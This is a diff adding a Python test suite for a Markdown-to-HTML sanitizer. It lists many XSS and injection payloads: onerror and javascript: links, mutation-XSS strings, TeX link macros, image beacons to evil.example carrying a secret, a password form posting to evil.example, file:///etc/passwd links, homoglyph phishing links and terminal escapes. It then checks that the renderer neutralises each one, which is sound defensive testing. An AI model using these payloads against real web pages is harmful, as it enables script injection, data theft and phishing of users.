@@ -1,0 +1,391 @@
+"""Untrusted Markdown: nothing in it may run, load, restyle or deceive; all of it may be read."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from m1_magic.render.markup import _clean, html, settled
+from m1_magic.render.text import escape, inert, visible
+
+TAGS = {
+    *("a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6"),
+    *("hr", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup"),
+    *("table", "tbody", "td", "th", "thead", "tr", "ul"),
+}
+ATTRIBUTES = {
+    ("a", "href"): r"(https?://|mailto:)[!-~]+",
+    ("a", "rel"): "noopener noreferrer nofollow",
+    ("a", "target"): "_blank",
+    ("code", "class"): r"language-[\w+#.-]{1,30}",
+    ("div", "class"): r"highlight|m1-answer mathjax_ignore tex2jax_ignore",
+    ("ol", "start"): r"\d{1,9}",
+    ("span", "class"): r"mathjax_process tex2jax_process|[a-z][a-z0-9]{0,2}",
+    ("td", "align"): "left|right|center",
+    ("th", "align"): "left|right|center",
+}
+# frontends.md §1 and the ways to write a picture or a script link in Markdown.
+IMAGES = [
+    "![alt](http://evil.example/x.png?d=SECRET)",
+    '![alt](http://evil.example/x.png "title")',
+    "![alt](<http://evil.example/x y.png>)",
+    "![alt][ref]\n\n[ref]: http://evil.example/x.png",
+    "![ref][]\n\n[ref]: http://evil.example/x.png",
+    "![ref]\n\n[ref]: http://evil.example/x.png",
+    "[![alt](http://evil.example/x.png)](http://evil.example/)",
+    "![![a](http://evil.example/1.png)](http://evil.example/2.png)",
+    "![alt](//evil.example/x.png)",
+    "![alt](data:image/svg+xml;base64,PHN2Zz4=)",
+    "![alt](/api/contents?_xsrf=1)",
+    "| ![alt](http://evil.example/x.png) |\n|---|\n| ![b](http://evil.example/y.png) |",
+]
+RAW = [
+    "<img src=x onerror=alert(1)>",
+    "<img srcset='http://evil.example/x.png 1x'>",
+    "a <img src=http://evil.example/x.png> b",
+    "<script>alert(1)</script>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<iframe srcdoc='<script>top.alert(1)</script>'></iframe>",
+    "<iframe src=http://evil.example></iframe>",
+    "<svg onload=alert(1)><use href='http://evil.example/#x'/></svg>",
+    "<style>@import url(http://evil.example/a.css);body{display:none}</style>",
+    "<div style='position:fixed;top:0;background:url(http://evil.example/x)'>x</div>",
+    "<form action=http://evil.example><input name=password></form>",
+    "<a href=javascript:alert(1) target=_self>x</a>",
+    "<button data-commandlinker-command='notebook:insert-cell-below'>x</button>",
+    "<a data-commandlinker-command='notebook:insert-cell-below' href=#>x</a>",
+    "<video poster=http://evil.example/x.png></video>",
+    "<link rel=stylesheet href=http://evil.example/a.css>",
+    "<object data=http://evil.example/x></object>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<base href=http://evil.example/>",
+    "<p id=jupyter-config-data name=x>clobber</p>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<x:img/src=x onerror=alert(1)>",
+]
+SCRIPTS = [
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](&#x6A;avascript&colon;alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox(1))",
+    "[x](command:workbench.action.terminal.new)",
+    "[x](/api/shutdown)",
+    "[x](//evil.example)",
+    "[x](#clobber)",
+    "<javascript:alert(1)>",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x](file:///etc/passwd)",
+]
+MATH = [
+    "$\\href{javascript:alert(1)}{x}$",
+    "\\(\\style{position:fixed}{x}\\)",
+    "\\[\\class{jp-Dialog}{x}\\]",
+    "$$\\cssId{main}{x}$$",
+    "$$\\includegraphics{http://evil.example/x.png}$$",
+    "\\[\\require{html}\\]",
+    "$\\mmlToken{mi}[href='javascript:alert(1)']{x}$",
+    "$\\def\\frac{owned}$",
+    "$</span><img src=x onerror=alert(1)>$",
+    "\\[</script><script>alert(1)</script> = 1\\]",
+]
+CODE = [
+    "```html\n<img src=x onerror=alert(1)>\n```",
+    "```mermaid\ngraph TD\nclick A javascript:alert(1)\n```",
+    '```"><img src=x onerror=alert(1)>\nx\n```',
+    "```python\n# <script>alert(1)</script>\n```",
+    "`<img src=x onerror=alert(1)>`",
+    "    <img src=x onerror=alert(1)>",
+]
+ATTACKS = IMAGES + RAW + SCRIPTS + MATH + CODE
+
+
+class Inventory(HTMLParser):
+    """Every tag and attribute of a page, and its text."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[tuple[str, str, str]] = []
+        self.tags: list[str] = []
+        self.text = ""
+        self.odd: list[str] = []
+        self.feed(page)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.found += [(tag, name, value or "") for name, value in attrs]
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.odd.append(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def live(page: str) -> list[object]:
+    """Return what is on the page and not on the list."""
+    inventory = Inventory(page)
+    strange: list[object] = [tag for tag in inventory.tags if tag not in TAGS]
+    for tag, name, value in inventory.found:
+        allowed = ATTRIBUTES.get((tag, name))
+        if allowed is None or not re.fullmatch(allowed, value):
+            strange.append((tag, name, value))
+    return strange + list(inventory.odd)
+
+
+def text(markdown: str) -> str:
+    return Inventory(html(markdown)).text
+
+
+def links(markdown: str) -> list[str]:
+    return [value for tag, name, value in Inventory(html(markdown)).found if name == "href"]
+
+
+def test_the_checker_sees_what_is_live() -> None:
+    unsafe = MarkdownIt("commonmark", {"html": True})
+    assert all(live(unsafe.render(attack)) for attack in IMAGES[:6] + RAW[:4])
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_attack_is_live_at_any_prefix(attack: str) -> None:
+    for size in range(1, len(attack) + 1):
+        page = html(attack[:size])
+        assert live(page) == [], attack[:size]
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_cleaning_is_idempotent(attack: str) -> None:
+    once = _clean(html(attack))
+    assert _clean(once) == once
+
+
+@pytest.mark.parametrize("attack", IMAGES)
+def test_a_picture_is_text_with_its_address(attack: str) -> None:
+    assert "img" not in Inventory(html(attack)).tags
+    if "data:" in attack:  # the parser takes it for no picture at all
+        assert text(attack).strip() == attack
+        return
+    assert "picture: " in text(attack)
+    if "http://evil.example" in attack:
+        assert "(evil.example)" in text(attack)
+
+
+@pytest.mark.parametrize("attack", SCRIPTS)
+def test_a_doubtful_link_is_text(attack: str) -> None:
+    assert links(attack) == []
+    assert text(attack).strip()
+
+
+@pytest.mark.parametrize("attack", MATH[:8])
+def test_tex_that_makes_links_styles_or_macros_is_not_typeset(attack: str) -> None:
+    assert "mathjax_process" not in html(attack)
+
+
+PIECES = st.sampled_from(
+    [*ATTACKS, "\n", "\n\n", "- ", "> ", "| a | b |\n|---|---|\n", "`", "```", "$", "$$", "\\(",
+     "\\[", "\\]", "*", "**", "~~", "[", "](", ")", "<", ">", '"', "'", "&lt;", "&#60;", "\\",
+     "1. ", "    ", "\t", "[^1]", "[^1]: ", "# ", "\x1b[31m", "\u202e", "\ud800", "\x00",
+     "求", "a", " "]
+)  # fmt: skip
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join))
+def test_no_mixture_is_live(markdown: str) -> None:
+    page = html(markdown)
+    assert live(page) == []
+    page.encode()  # fit for the wire, whatever came
+    for forbidden in (" src", " style", " on", " id"):
+        assert not re.search(rf"<[a-z0-9]+[^<>]*{forbidden}\w*=", page)
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join))
+def test_inert_markdown_has_nothing_for_a_careless_viewer(markdown: str) -> None:
+    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    viewer.validateLink = lambda url: True  # type: ignore[method-assign]
+    inventory = Inventory(viewer.render(inert(markdown)))
+    assert not set(inventory.tags) & {"img", "script", "iframe", "svg", "style", "form", "input"}
+    assert not any(name.startswith("on") for _, name, _ in inventory.found)
+    for _, name, value in inventory.found:
+        if name == "href":
+            assert not re.match(r"\s*(javascript|vbscript|data|command|file):", value, re.I), value
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_inert_breaks_every_attack(attack: str) -> None:
+    viewer = MarkdownIt("commonmark", {"html": True})
+    viewer.validateLink = lambda url: True  # type: ignore[method-assign]
+    inventory = Inventory(viewer.render(inert(attack)))
+    assert set(inventory.tags) <= TAGS, inert(attack)
+    for tag, name, value in inventory.found:
+        assert (tag, name) in {("a", "href"), ("a", "title"), ("code", "class")}
+        assert name != "href" or value.startswith(("http://", "https://", "mailto:", "%E2%81%A0"))
+
+
+def test_inert_leaves_code_to_the_letter() -> None:
+    markdown = "Use `x` so:\n\n```html\n<b>bold</b> ![x](y)\n```\n\nDone, <b>really</b>."
+    assert "\n<b>bold</b> ![x](y)\n" in inert(markdown)
+    assert "<b>really" not in inert(markdown)
+
+
+def test_inert_trusts_no_fence_where_parsers_differ() -> None:
+    assert "<img" not in inert("$$\n```\n$$\n<img src=x onerror=alert(1)>\n```")
+    assert "<img" not in inert('[a]: /u "x\n```\ny"\n<img src=x onerror=alert(1)>\n```')
+    assert "<img" not in inert("```\n```~\n<img src=x onerror=alert(1)>\n```")
+
+
+def test_inert_writes_formulas_with_dollars() -> None:
+    assert inert("so \\(x^2\\) and\n\\[\ny = 1\n\\]") == "so $x^2$ and\n$$\ny = 1\n$$"
+
+
+@pytest.mark.parametrize(
+    ("markdown", "host"),
+    [
+        ("[google.com](https://evil.example/a)", "(evil.example)"),
+        ("[https://google.com/login](https://evil.example/)", "(evil.example)"),
+        ("[go to g\u043e\u043egle.com](https://evil.example/)", "(evil.example)"),
+        ("[google\u3002com](https://evil.example/)", "(evil.example)"),
+        ("[`google.com`](https://evil.example/)", "(evil.example)"),
+        ("[write to a@bank.com](mailto:b@evil.example)", "(b@evil.example)"),
+    ],
+)
+def test_a_link_that_names_another_host_shows_its_own(markdown: str, host: str) -> None:
+    assert host in text(markdown)
+    assert len(links(markdown)) == 1
+
+
+def test_an_honest_link_is_left_alone() -> None:
+    assert text("[the docs](https://docs.example/a.html)").strip() == "the docs"
+    assert text("<https://docs.example/a.html>").strip() == "https://docs.example/a.html"
+    assert links("[a](https://docs.example/a?b=1&c=2)") == ["https://docs.example/a?b=1&c=2"]
+
+
+def test_a_link_with_a_user_in_its_address_is_text() -> None:
+    assert links("[x](https://google.com@evil.example/)") == []
+
+
+def test_table_with_alignment_and_code() -> None:
+    page = html("| a | b |\n|:--|--:|\n| 1 | `x<y` |\n")
+    assert Inventory(page).tags.count("td") == 2
+    assert '<td align="right"><code>x&lt;y</code></td>' in page
+
+
+def test_strikethrough_tasks_footnotes_nested_lists_cjk() -> None:
+    assert "<s>gone</s>" in html("~~gone~~")
+    assert "☐ open" in text("- [ ] open\n- [x] done") and "☑ done" in text("- [x] done")
+    page = html("Word[^1].\n\n[^1]: The *note*.")
+    assert "<sup>[1]</sup>" in page and "<em>note</em>" in page and links(page) == []
+    assert html("- a\n  - b\n    1. c\n").count("<li>") == 3
+    assert "<strong>求解</strong>" in html("**求解**方程")
+    assert "ol start" in html("3. c\n4. d")
+
+
+@pytest.mark.parametrize("language", ["python", "rust", "html", "no-such-language", ""])
+def test_code_is_shown_to_the_letter(language: str) -> None:
+    code = "\n  if a < b && c > d:\n\n\treturn '<b>&amp;</b>'  # \u00a0 ü\n\n"
+    assert text(f"```{language}\n{code}```").removesuffix("\n") == code.removesuffix("\n")
+
+
+def test_known_languages_are_coloured() -> None:
+    assert '<span class="k">def</span>' in html("```python\ndef f(): pass\n```")
+    assert "<span" not in html("```mermaid\ngraph TD\n```")
+
+
+def formulas(markdown: str) -> list[str]:
+    page = html(markdown)
+    return re.findall(r'<span class="mathjax_process tex2jax_process">(.*?)</span>', page, re.S)
+
+
+@pytest.mark.parametrize(
+    ("markdown", "expected"),
+    [
+        ("so $x_1*y_2*z$.", [r"\(x_1*y_2*z\)"]),
+        ("so \\(a_b\\) and \\[c_d\\]", [r"\(a_b\)", r"\[c_d\]"]),
+        ("$$\na\\\\\n- b\n= c\n$$", ["\\[a\\\\\n- b\n= c\\]"]),
+        ("\\[\n\\frac{a}{b}\n\\].", [r"\[\frac{a}{b}.\]"]),
+        ("- item\n\n  \\[\n  x = 1\n  \\]\n\n- next", [r"\[x = 1\]"]),
+        ("求$x$的值", [r"\(x\)"]),
+        ("the $n$th of $a < b$", [r"\(n\)", r"\(a &lt; b\)"]),
+        ("$\\alpha$-$\\beta$", [r"\(\alpha\)", r"\(\beta\)"]),
+        ("from $5 to $6", []),
+        ("US$5 and HK$6, 7$ or $8", []),
+        ("between $1,000 and $2,000, or ($5)", []),
+        ("$HOME/$USER and `$x$`", []),
+        ("`$x$` and\n\n```\n$y$\n```", []),
+        ("escaped \\$x$ and \\[1\\]", []),
+        ("unfinished $x_1", []),
+        ("unfinished \\(x_1", []),
+        ("no formula: $$ is the pid\n\nand *more*", []),
+    ],
+)
+def test_formulas_and_money(markdown: str, expected: list[str]) -> None:
+    assert formulas(markdown) == expected
+    assert live(html(markdown)) == []
+
+
+def test_without_typesetting_tex_is_text() -> None:
+    page = html("so $x_1*y*$", typeset=False)
+    assert "mathjax_process" not in page and r"\(x_1*y*\)" in page
+
+
+SAMPLE = (
+    "# Title\n\nSome **bold** and $x_1$.\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    "```python\nprint('<b>')\n```\n\n\\[\n\\frac{a}{b}\n\\]\n\nEnd.\n"
+)
+
+
+def test_every_prefix_of_a_stream_reads_well() -> None:
+    for size in range(len(SAMPLE) + 1):
+        page = html(settled(SAMPLE[:size]), typeset=False)
+        assert live(page) == []
+        assert "<h2>" not in page, SAMPLE[:size]  # "text\n-" is no heading
+        assert "|" not in Inventory(page).text, SAMPLE[:size]
+        assert "```" not in Inventory(page).text, SAMPLE[:size]
+    assert settled(SAMPLE) == SAMPLE
+
+
+def test_an_open_formula_is_shown_as_it_comes() -> None:
+    assert "<pre>$$\n\\frac{a_1}{b_</pre>" in html("$$\n\\frac{a_1}{b_")
+
+
+def test_hidden_characters_are_made_visible() -> None:
+    assert (
+        visible("a\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x07")
+        == "aredlink"
+    )
+    assert visible("\x1b c\x07\r\nd\re\x9b1m") == "␛ c␇\nd\ne"
+    assert visible("\u202eabc\u200b\U000e0041") == "⟨U+202E⟩abc⟨U+200B⟩⟨U+E0041⟩"
+    assert visible("\ud800") == "\ufffd"
+    assert "\u202e" not in html("a\u202eb") and "\x1b" not in html("a\x1b[2Jb")
+
+
+@given(st.text(st.characters(categories=["L", "N", "P", "S", "Zs"])))
+def test_ordinary_text_is_left_as_it_is(plain: str) -> None:
+    assert visible(plain) == plain
+
+
+@given(st.text())
+def test_visible_is_idempotent_and_escape_is_text(foreign: str) -> None:
+    assert visible(visible(foreign)) == visible(foreign)
+    assert Inventory(escape(foreign)).tags == []
+    assert '"' not in escape(foreign) and "'" not in escape(foreign)
+
+
+@pytest.mark.parametrize("piece", ["[", "![", "**a", "> ", "$", "\\(", "`", "- ", "|", "<", "~~"])
+def test_a_long_row_of_marks_is_shown(piece: str) -> None:
+    assert live(html(piece * 400)) == []
